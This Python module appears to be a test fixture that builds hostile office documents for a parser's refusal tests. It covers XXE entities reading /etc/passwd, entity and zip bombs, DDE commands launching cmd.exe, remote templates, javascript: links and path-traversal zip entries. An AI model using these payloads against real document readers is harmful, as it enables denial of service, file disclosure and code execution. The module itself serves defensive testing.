"""DOCX, XLSX and ODT files that attack their reader: name, reason of the refusal, how to build."""

import io
import struct
import zipfile

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels"'
    ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{}</Types>'
)
PART = '<Override PartName="/{}" ContentType="application/vnd.{}"/>'
OOXML = "openxmlformats-officedocument."
RELATIONSHIPS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
    "</Relationships>"
)
RELATIONSHIP = (
    '<Relationship Id="r{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{}" Target="{}"{}/>'
)
EXTERNAL = ' TargetMode="External"'
ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "{}">'.format("a" * 100)
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]><x>&i;</x>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
PARAGRAPH = "<w:p><w:r><w:t>Xin chào</w:t></w:r></w:p>"


def zipped(parts, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def related(*relationships):
    """A part of relationships (type, target, external or not)."""
    rows = [
        RELATIONSHIP.format(number, kind, target, EXTERNAL if external else "")
        for number, (kind, target, external) in enumerate(relationships)
    ]
    return RELATIONSHIPS.format("".join(rows))


def docx_parts(body=PARAGRAPH, types="", **parts):
    """The parts of a sound DOCX, and others: `a__b_rels` for a/b.rels is written out by callers."""
    main = PART.format("word/document.xml", OOXML + "wordprocessingml.document.main+xml")
    return {
        "[Content_Types].xml": TYPES.format(main + types),
        "_rels/.rels": related(("officeDocument", "word/document.xml", False)),
        "word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>",
        **parts,
    }


def docx(body=PARAGRAPH, types="", more=()):
    return zipped(docx_parts(body, types) | dict(more))


def docx_related(*relationships, part="document"):
    return docx(more={f"word/_rels/{part}.xml.rels": related(*relationships)})


def field(*instructions):
    """A Word field whose instruction comes in pieces."""
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>"


def xlsx(cells='<row r="1"><c r="A1"><v>1</v></c></row>', types="", more=(), names=""):
    main = PART.format("xl/workbook.xml", OOXML + "spreadsheetml.sheet.main+xml") + PART.format(
        "xl/worksheets/sheet1.xml", OOXML + "spreadsheetml.worksheet+xml"
    )
    main += PART.format("xl/sharedStrings.xml", OOXML + "spreadsheetml.sharedStrings+xml")
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    ids = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    return zipped(
        {
            "[Content_Types].xml": TYPES.format(main + types),
            "_rels/.rels": related(("officeDocument", "xl/workbook.xml", False)),
            "xl/_rels/workbook.xml.rels": related(
                ("worksheet", "worksheets/sheet1.xml", False),
                ("sharedStrings", "sharedStrings.xml", False),
            ),
            "xl/workbook.xml": f'<workbook {space} {ids}><sheets><sheet name="a" sheetId="1"'
            f' r:id="r0"/></sheets>{names}</workbook>',
            "xl/worksheets/sheet1.xml": f'<worksheet {space}><dimension ref="A1:XFD1048576"/>'
            f"<sheetData>{cells}</sheetData></worksheet>",
            "xl/sharedStrings.xml": f"<sst {space}><si><t>{'a' * 30_000}</t></si></sst>",
            **dict(more),
        }
    )


def odt(body="<text:p>Xin chào</text:p>", head="", more=()):
    spaces = "".join(
        f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "text", "draw", "script", "table", "manifest", "meta")
    )
    content = (
        f'<office:document-content{spaces} xmlns:xlink="http://www.w3.org/1999/xlink">{head}'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    mimetype = "application/vnd.oasis.opendocument.text"
    return zipped({"mimetype": mimetype, "content.xml": content, **dict(more)})


def lying(content, name, size):
    """`content` with `size` given for the unpacked part `name` in both headers."""
    altered = bytearray(content)
    for sign, at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        place = -1
        while (place := altered.find(sign, place + 1)) >= 0:
            if altered[place + name_at :].startswith(name.encode()):
                struct.pack_into("<I", altered, place + at, size)
    return bytes(altered)


def flagged_encrypted(content):
    altered = bytearray(content)
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        altered[altered.find(sign) + at] |= 1
    return bytes(altered)


def twice(content, name):
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name.upper(), "<x/>")
    return out.getvalue()


def nested(levels):
    """A DOCX with a ZIP of a ZIP of … of a bomb inside."""
    inner = bytes(50 * 1024 * 1024)
    for _ in range(levels):
        inner = zipped({"a.zip": inner})
    return docx(more={"word/embeddings/a.zip": inner})


HOSTILE = {
    # broken
    "docx cut in half": ("damaged", lambda: docx()[: len(docx()) // 2]),
    "docx without its last bytes": ("damaged", lambda: docx()[:-30]),
    "docx without document": (
        "damaged",
        lambda: zipped(without(docx_parts(), "word/document.xml")),
    ),
    "docx of broken xml": ("damaged", lambda: docx("<w:p><w:r>")),
    "docx in an unknown encoding": (
        "damaged",
        lambda: docx(more={"word/a.xml": '<?xml version="1.0" encoding="klingon"?><a/>'}),
    ),
    "docx with a part twice": ("damaged", lambda: twice(docx(), "word/document.xml")),
    "docx packed by another method": (
        "damaged",
        lambda: zipped(docx_parts(), zipfile.ZIP_LZMA),
    ),
    "docx with a locked part": ("encrypted", lambda: flagged_encrypted(docx())),
    "xlsx without sheets": ("damaged", lambda: xlsx(more={"xl/workbook.xml": "<workbook/>"})),
    "odt without content": (
        "damaged",
        lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text"}),
    ),
    # bombs
    "docx of 30 MB blanks": ("too_complex", lambda: docx(PARAGRAPH + " " * 30 * 1024 * 1024)),
    "docx of 300 MB": (
        "too_complex",
        lambda: docx(more={f"word/media/{n}.bmp": bytes(3 * 1024 * 1024) for n in range(100)}),
    ),
    "docx claiming less than it is": (
        "damaged",
        lambda: lying(docx(PARAGRAPH * 10_000), "word/document.xml", 10),
    ),
    "docx claiming four gigabytes": (
        "too_complex",
        lambda: lying(docx(), "word/document.xml", 2**32 - 2),
    ),
    "docx of 60,000 parts": (
        "too_complex",
        lambda: docx(more={f"word/{number}.bin": b"" for number in range(60_000)}),
    ),
    "docx around nested bombs": ("embedded", lambda: nested(3)),
    "docx of endless text": (
        "too_much_text",
        lambda: docx("".join(PARAGRAPH + f"<w:t>{n * n:050}</w:t>" for n in range(40_000))),
    ),
    "xlsx of one text a hundred times a row": (
        "too_much_text",
        lambda: xlsx('<row r="1">' + '<c t="s"><v>0</v></c>' * 100 + "</row>"),
    ),
    # entities
    "docx with an entity bomb": ("entities", lambda: docx(more={"word/a.xml": ENTITIES})),
    "docx with an entity bomb in UTF-16": (
        "entities",
        lambda: docx(more={"word/document.xml": ENTITIES.encode("utf-16")}),
    ),
    "docx with an entity from outside": ("entities", lambda: docx(more={"word/a.xml": OUTSIDE})),
    "docx with entities in relationships": (
        "entities",
        lambda: docx(more={"word/_rels/document.xml.rels": OUTSIDE}),
    ),
    "xlsx with an entity bomb": ("entities", lambda: xlsx(more={"xl/sharedStrings.xml": ENTITIES})),
    "odt with an entity bomb": ("entities", lambda: odt(more={"content.xml": ENTITIES})),
    "odt with entities in its metadata": ("entities", lambda: odt(more={"meta.xml": OUTSIDE})),
    # macros
    "docx with macros": ("macro", lambda: docx(more={"word/vbaProject.bin": b"x"})),
    "docx with macros under another name": (
        "macro",
        lambda: docx_related(("vbaProject", "harmless.xml", False)),
    ),
    "docm by its type": (
        "macro",
        lambda: docx(types=PART.format("word/a.xml", "ms-word.document.macroEnabled.main+xml")),
    ),
    "xlsx with macros": ("macro", lambda: xlsx(more={"xl/vbaProject.bin": b"x"})),
    "xlsx with a macro sheet": ("macro", lambda: xlsx(more={"xl/macrosheets/sheet1.xml": "<a/>"})),
    "odt with macros": ("macro", lambda: odt(more={"Basic/Standard/Module1.xml": "<a/>"})),
    "odt with python": ("macro", lambda: odt(more={"Scripts/python/a.py": "x"})),
    "odt with a script on opening": (
        "macro",
        lambda: odt(
            head='<office:scripts><script:event-listener script:language="ooo:script"/>'
            "</office:scripts>"
        ),
    ),
    # objects
    "docx with an OLE object": (
        "embedded",
        lambda: docx_related(("oleObject", "embeddings/oleObject1.bin", False)),
    ),
    "docx with ActiveX": ("embedded", lambda: docx(more={"word/activeX/activeX1.xml": "<a/>"})),
    "docx with an embedded workbook": (
        "embedded",
        lambda: docx_related(("package", "embeddings/a.xlsx", False)),
    ),
    "docx with a piece of HTML": ("embedded", lambda: docx_related(("aFChunk", "a.html", False))),
    "odt with an OLE object": (
        "embedded",
        lambda: odt('<text:p><draw:object-ole xlink:href="./Object 1"/></text:p>'),
    ),
    # what loads by itself
    "docx with a template elsewhere": (
        "remote",
        lambda: docx_related(("attachedTemplate", "http://x/a.dotm", True), part="settings"),
    ),
    "docx with a picture elsewhere": (
        "remote",
        lambda: docx_related(("image", "http://x/a.png", True)),
    ),
    "docx with a picture on a share": (
        "remote",
        lambda: docx_related(("image", r"\\x\a.png", True)),
    ),
    "docx with a frame": ("remote", lambda: docx_related(("frame", "http://x/", True))),
    "docx with DDE": ("remote", lambda: docx(field('DDEAUTO c:\\\\cmd.exe "/k calc"'))),
    "docx with DDE in pieces": ("remote", lambda: docx(field(" D", "DE", "AUTO cmd"))),
    "docx with DDE spelt by numbers": (
        "remote",
        lambda: docx(field("QUOTE 68 68 69 65 85 84 79")),
    ),
    "docx with DDE in a header": (
        "remote",
        lambda: docx(more={"word/header1.xml": f"<w:hdr {W}>{field('DDE x')}</w:hdr>"}),
    ),
    "docx with a simple field that includes": (
        "remote",
        lambda: docx('<w:fldSimple w:instr=" INCLUDETEXT http://x/a "/>'),
    ),
    "docx with a link to a file": (
        "link",
        lambda: docx_related(("hyperlink", "file:///C:/a.exe", True)),
    ),
    "docx with a link to a script": (
        "link",
        lambda: docx_related(("hyperlink", " JavaScript:alert(1)", True)),
    ),
    "docx with a field that links to a script": (
        "link",
        lambda: docx(field(' HYPERLINK "javascript:alert(1)" ')),
    ),
    "xlsx with figures elsewhere": (
        "remote",
        lambda: xlsx(more={"xl/externalLinks/externalLink1.xml": "<a/>"}),
    ),
    "xlsx with a connection": ("remote", lambda: xlsx(more={"xl/connections.xml": "<a/>"})),
    "xlsx with DDE": (
        "remote",
        lambda: xlsx("<row><c><f>cmd|'/C calc'!A0</f><v>1</v></c></row>"),
    ),
    "xlsx with a web service": (
        "remote",
        lambda: xlsx('<row><c><f>_xlfn.WEBSERVICE("http://x")</f><v>1</v></c></row>'),
    ),
    "odt with a picture elsewhere": (
        "remote",
        lambda: odt('<text:p><draw:image xlink:href="http://x/a.png"/></text:p>'),
    ),
    "odt with a picture on the disk": (
        "remote",
        lambda: odt('<text:p><draw:image xlink:href="../../etc/passwd"/></text:p>'),
    ),
    "odt with a section elsewhere": (
        "remote",
        lambda: odt('<text:section><text:section-source xlink:href="a.odt"/></text:section>'),
    ),
    "odt with DDE": (
        "remote",
        lambda: odt('<text:dde-connection-decl office:dde-application="soffice"/>'),
    ),
    "odt with a frame": ("remote", lambda: odt('<draw:floating-frame xlink:href="a.html"/>')),
    "odt with a link to a script": (
        "link",
        lambda: odt('<text:a xlink:href="vnd.sun.star.script:a"/>'),
    ),
    "odt with a password": (
        "encrypted",
        lambda: odt(
            more={
                "META-INF/manifest.xml": '<m:manifest xmlns:m="a"><m:encryption-data/></m:manifest>'
            }
        ),
    ),
    # other kinds
    "pptx": (
        "presentation",
        lambda: zipped(
            {
                "[Content_Types].xml": TYPES.format(
                    PART.format("ppt/a.xml", OOXML + "presentationml.presentation.main+xml")
                )
            }
        ),
    ),
    "ods": (
        "unknown",
        lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
    ),
    "epub": ("archive", lambda: zipped({"mimetype": "application/epub+zip"})),
    "zip": ("archive", lambda: zipped({"../../etc/cron.d/a": "x"})),
    "zip behind a web page": ("web_page", lambda: b"<html>" + docx()),
    "zip around a PDF": (
        "polyglot",
        lambda: zipped({"a": "%PDF-1.7"}, zipfile.ZIP_STORED),
    ),
}


def without(parts, name):
    return {key: value for key, value in parts.items() if key != name}


HEAVY = {
    "docx of a hundred thousand levels": lambda: docx(
        "<w:a>" * 100_000 + PARAGRAPH + "</w:a>" * 100_000
    ),
    "xlsx claiming a million rows": xlsx,
    "xlsx with a cell in the last corner": lambda: xlsx(
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    ),
    "xlsx of a hundred wide rows": lambda: xlsx(
        "".join(f'<row r="{row}"><c r="XFD{row}"><v>1</v></c></row>' for row in range(1, 101))
    ),
    "odt with a thousand million blanks": lambda: odt(
        '<text:p>a<text:s text:c="999999999"/>b</text:p>'
    ),
}
